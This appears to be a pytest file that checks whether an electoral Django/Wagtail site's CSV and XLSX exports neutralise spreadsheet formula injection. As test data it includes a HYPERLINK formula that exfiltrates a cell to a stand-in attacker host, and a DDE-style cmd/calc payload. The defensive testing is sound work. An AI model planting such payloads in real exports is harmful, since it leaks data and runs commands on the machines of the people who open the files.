"""Formula injection: every export neutralises text cells, never numbers (home/spreadsheets.py)."""

import csv
import io
from decimal import Decimal

import pytest
from django.contrib.auth import get_user_model
from openpyxl import load_workbook

from home.spreadsheets import FORMULA_STARTS, neutralise, safe_row

PAYLOAD = '=HYPERLINK("http://atacante.example/?d="&A1;"Ver")'


def is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_text_cells_that_a_spreadsheet_would_run_get_an_apostrophe():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert start in FORMULA_STARTS
        assert neutralise(start + "1+1") == "'" + start + "1+1"
    assert neutralise("PAN") == "PAN"
    assert neutralise("") == ""
    assert neutralise("María =1") == "María =1"  # only the first character matters
    assert neutralise(neutralise("=1")) == "'=1"  # once only


def test_numbers_stay_numbers_even_negative():
    assert safe_row([-5, -2.5, Decimal("-1.25"), 0, None, "-3"]) == [
        -5,
        -2.5,
        Decimal("-1.25"),
        0,
        None,
        "'-3",
    ]


@pytest.mark.django_db
def test_public_candidacy_csv(client):
    from electoral.parties.importers import ensure_parties_index
    from tests.electoral.factories import (
        home,
        make_actor,
        make_candidacy,
        make_district,
        make_municipality,
        open_calendar,
    )

    open_calendar()
    index = ensure_parties_index(home())
    toluca = make_municipality(107, "Toluca", districts=[make_district(1)])
    actor = make_actor(index, "pan", order=1, title="@SUM(1+1)*cmd|' /C calc'!A0")
    make_candidacy(actor, municipality=toluca, name=PAYLOAD, source="+prueba")
    body = b"".join(client.get("/candidaturas.csv").streaming_content).decode("utf-8-sig")
    (row,) = list(csv.DictReader(io.StringIO(body)))
    values = list(row.values())
    assert "'" + PAYLOAD in values
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in values
    assert "'+prueba" in values
    assert not any(v.startswith(FORMULA_STARTS) for v in values)
    assert "107" in values  # numbers untouched


def test_results_csv_neutralises_text_and_keeps_numbers():
    from electoral.results.views import _csv_response

    figures = [
        {
            "clave": "ayuntamiento-2021-x",
            "cargo": "Ayuntamiento",
            "lugar": "-Lugar",
            "proceso_electoral": 2021,
            "fecha": None,
            "tipo": "ordinaria",
            "estado": "final",
            "base_porcentaje": "votos válidos",
            "fuente": "@fuente",
            "opciones": [
                {
                    "opcion": PAYLOAD,
                    "tipo": "partido",
                    "candidatura": "=1+1",
                    "votos": -12,
                    "porcentaje": Decimal("-1.5"),
                }
            ],
            "hay_coaliciones_con_combinaciones": False,
            "candidaturas": [],
            "votos_validos": 10,
            "votos_no_registrados": 0,
            "votos_nulos": 0,
            "votacion_total": 10,
            "lista_nominal": 20,
            "participacion": Decimal("50.0"),
            "ganador": "-Ganador",
            "ganador_votos": 10,
        }
    ]
    body = _csv_response(figures, "x.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))[1:]
    first = rows[0]
    assert "'" + PAYLOAD in first and "'=1+1" in first and "'-Lugar" in first
    assert "'@fuente" in first
    assert any("'-Ganador" in row for row in rows)
    assert "-12" in first and "-1.5" in first  # negative numbers stay numbers
    for row in rows:
        assert not any(cell.startswith(FORMULA_STARTS) and not is_number(cell) for cell in row)


def test_every_wagtail_export_goes_through_the_rule():
    from wagtail.admin.views.mixins import SpreadsheetExportMixin
    from wagtail.admin.views.reports import ReportView
    from wagtail.contrib.forms.views import SubmissionsListView
    from wagtail_modeladmin.views import IndexView

    for view in (ReportView, SubmissionsListView, IndexView):
        assert issubclass(view, SpreadsheetExportMixin)
    mixin = SpreadsheetExportMixin()
    for export_format in ("csv", "xlsx"):
        assert mixin.preprocess_field_value("title", PAYLOAD, export_format) == "'" + PAYLOAD
        assert mixin.preprocess_field_value("votes", -3, export_format) == -3


@pytest.fixture
def staff_client(client, home_site):
    user = get_user_model().objects.create_superuser("ieem-export", "x@example.mx", "x" * 16)
    client.force_login(user)
    page = home_site.root_page.specific
    page.title = PAYLOAD
    page.save_revision(user=user, log_action=True).publish(user=user)
    return client


@pytest.mark.django_db
def test_wagtail_site_history_csv_export(staff_client):
    response = staff_client.get("/admin/reports/site-history/", {"export": "csv"})
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'" + PAYLOAD in cells
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)


@pytest.mark.django_db
def test_wagtail_site_history_xlsx_export(staff_client):
    response = staff_client.get("/admin/reports/site-history/", {"export": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [c for row in sheet.iter_rows(values_only=True) for c in row if isinstance(c, str)]
    assert "'" + PAYLOAD in cells
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
